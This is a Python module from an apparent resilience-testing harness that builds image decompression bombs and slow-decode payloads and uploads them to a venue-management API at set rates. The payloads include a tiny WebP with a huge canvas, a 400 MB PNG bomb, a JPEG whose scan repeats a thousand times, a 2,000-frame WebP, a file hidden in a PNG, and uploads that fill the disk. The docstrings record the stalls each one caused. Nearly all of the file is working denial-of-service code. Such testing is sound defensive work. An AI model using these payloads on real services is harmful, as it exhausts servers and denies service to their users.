"""Attacks by pictures that are small to send and large or slow to decode."""

import io
import random
import struct
import zlib

from PIL import Image, ImageCms

from servers.http_connection import Response
from siege.attack import attack
from siege.attacker import Attacker
from siege.venue_records import small_venue


def noise_png(width: int, height: int) -> bytes:
    """Returns a PNG of noise, which no format can compress."""
    return _saved(_noise(width, height), "PNG", compress_level=0)


def plain_png(width: int, height: int) -> bytes:
    """Returns a PNG of one colour, which is a thousand times larger once it is decoded."""
    compressor = zlib.compressobj(9)
    row = bytes(1 + width * 3)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def huge_webp() -> bytes:
    """Returns a WebP of one colour with a canvas of 134 million pixels, in 38 bytes."""
    sides = (16_383 - 1) | (8_192 - 1) << 14
    pixels = b"\x2f" + sides.to_bytes(4, "little") + b"\x88\x88\x08" + bytes(10)
    chunk = b"VP8L" + struct.pack("<I", len(pixels)) + pixels
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def many_scans_jpeg(width: int, height: int, scans: int) -> bytes:
    """Returns a progressive JPEG of one colour whose last scan is there again and again.

    A scan of nothing new has some bytes, and yet a decoder goes over all blocks of the picture for it.
    """
    file = _saved(Image.new("L", (width, height), 127), "JPEG", progressive=True, quality=50)
    start = file.rindex(b"\xff\xda")
    end = file.rindex(b"\xff\xd9")
    return file[:end] + file[start:end] * (scans - 1) + file[end:]


def many_frames_webp(frames: int) -> bytes:
    """Returns an animated WebP of so many frames of 40 million pixels, each of which has 58 bytes."""
    width, height = 8_000, 5_000
    canvas = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    pixels = b"\x2f" + ((width - 1) | (height - 1) << 14).to_bytes(4, "little") + b"\x88\x88\x08" + bytes(10)
    duration_and_flags = (10).to_bytes(3, "little") + b"\0"
    frame = _riff(b"ANMF", bytes(6) + canvas + duration_and_flags + _riff(b"VP8L", pixels))
    header = _riff(b"VP8X", b"\x02\0\0\0" + canvas) + _riff(b"ANIM", bytes(6))
    content = b"WEBP" + header + frame * frames
    return b"RIFF" + struct.pack("<I", len(content)) + content


def turned_png_of_other_colours(width: int, height: int) -> bytes:
    """Returns a PNG of one colour that lies on its side, and whose colour profile is not that of the web."""
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    # With red and green exchanged, every pixel has to be converted.
    exchanged = profile.replace(b"rXYZ", b"?").replace(b"gXYZ", b"rXYZ").replace(b"?", b"gXYZ")
    on_its_side = b"MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x06" + bytes(6)
    picture, after_header = plain_png(width, height), 33
    more = _chunk(b"iCCP", b"profile\0\0" + zlib.compress(exchanged)) + _chunk(b"eXIf", on_its_side)
    return picture[:after_header] + more + picture[after_header:]


@attack("1 request a second of 38 bytes")
async def webp_with_a_huge_canvas(attacker: Attacker) -> None:
    """Uploads a WebP of one colour, with a canvas of 134 million pixels. It stalled everyone for a second."""
    body = huge_webp()
    await attacker.begin()
    await attacker.at_rate(1, lambda _: _upload(attacker, body, "image/webp"))


@attack("1 request every 2 seconds of 3 MB")
async def slow_avif(attacker: Attacker) -> None:
    """Uploads noise as AVIF, which takes 10 s to decode and encode. 11 MB held the only thread for 100 s."""
    body = _saved(_noise(400, 400).resize((4000, 4000)), "AVIF", quality=80, speed=10)
    await attacker.begin()
    await attacker.at_rate(0.5, lambda _: _upload(attacker, body, "image/avif"))


@attack("1 request a second of 0.4 MB")
async def png_bomb(attacker: Attacker) -> None:
    """Uploads a PNG of one colour with as many pixels as are taken: 400 MB once it is decoded."""
    body = plain_png(16_384, 8_192)
    await attacker.begin()
    await attacker.at_rate(1, lambda _: _upload(attacker, body, "image/png"))


@attack("1 request a second of 1 MB")
async def a_file_hidden_in_a_picture(attacker: Attacker) -> None:
    """Uploads a small picture with 1 MB after its pixels, and fetches it. All of it was stored and served."""
    hidden = random.Random(2).randbytes(1 << 20)
    picture = plain_png(64, 32)
    end = picture.rindex(b"IDAT") + 4
    length = int.from_bytes(picture[end - 8 : end - 4], "big")
    pixels = picture[end : end + length]
    body = picture[: end - 8] + _chunk(b"IDAT", pixels + hidden) + picture[end + length + 4 :]
    await attacker.begin()

    async def upload_and_fetch(_: int) -> None:
        answer = await _upload(attacker, body, "image/png")
        if answer is not None and answer.status == 200 and answer.json()["sizeBytes"] > len(hidden):
            attacker.count("served what was hidden")

    await attacker.at_rate(1, upload_and_fetch)


@attack("4 uploads a second of 3 MB")
async def images_until_the_disk_is_full(attacker: Attacker) -> None:
    """Uploads pictures under new names, and never stops. One connection stored 382 MB in 14 s."""
    body = noise_png(1000, 1000)
    await attacker.begin()
    await attacker.at_rate(4, lambda number: _upload(attacker, body, "image/png", f"n{number}"))


@attack("1 request every 2 seconds of 0.2 MB")
async def jpeg_of_a_thousand_scans(attacker: Attacker) -> None:
    """Uploads a JPEG of 24 million pixels that is sent a thousand times over, each time in some bytes.

    Its size and its pixels are those of any photograph. What a decoder does for it is a thousand photographs.
    """
    body = many_scans_jpeg(6000, 4000, scans=1000)
    await attacker.begin()
    await attacker.at_rate(0.5, lambda _: _upload(attacker, body, "image/jpeg"))


@attack("1 request a second of 0.1 MB, as an image and as a floor plan in turn")
async def animations_of_many_frames(attacker: Attacker) -> None:
    """Uploads animations of 2,000 frames, each of which is a picture of 40 million pixels.

    A bound of pixels counts one frame. All of them are 320 GB.
    """
    body = many_frames_webp(2000)
    await attacker.begin()

    async def upload(number: int) -> None:
        if number % 2:
            path = f"/v1/manage/venues/{attacker.task.venue_id}/floor-plan"
            await attacker.send("PUT", path, body, media_type="image/webp")
        else:
            await _upload(attacker, body, "image/webp")

    await attacker.at_rate(1, upload)


@attack("1 request a second of 0.4 MB, of two tenants in turn")
async def pictures_that_are_turned_and_converted(attacker: Attacker) -> None:
    """Uploads pictures of one colour with as many pixels as are taken, which lie on their side.

    Their colour profile has red and green exchanged. Each pixel is decoded, turned and converted, and each
    step may keep another 400 MB. Two tenants do that at once, and each is within what a tenant may do.
    """
    body = turned_png_of_other_colours(16_384, 8_192)
    other_venue_id = await attacker.create_venue(small_venue("Hall"), key=attacker.task.second_key)
    await attacker.begin()

    async def upload(number: int) -> None:
        if number % 2:
            path = f"/v1/manage/venues/{other_venue_id}/imagery/picture"
            await attacker.send("PUT", path, body, key=attacker.task.second_key, media_type="image/png")
        else:
            await _upload(attacker, body, "image/png")

    await attacker.at_rate(1, upload)


async def _upload(attacker: Attacker, body: bytes, media_type: str, name: str = "picture") -> Response | None:
    path = f"/v1/manage/venues/{attacker.task.venue_id}/imagery/{name}"
    return await attacker.send("PUT", path, body, media_type=media_type)


def _noise(width: int, height: int) -> Image.Image:
    return Image.frombytes("RGB", (width, height), random.Random(1).randbytes(width * height * 3))


def _saved(image: Image.Image, format_: str, **options: object) -> bytes:
    file = io.BytesIO()
    image.save(file, format_, **options)
    return file.getvalue()


def _riff(name: bytes, data: bytes) -> bytes:
    return name + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2)


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
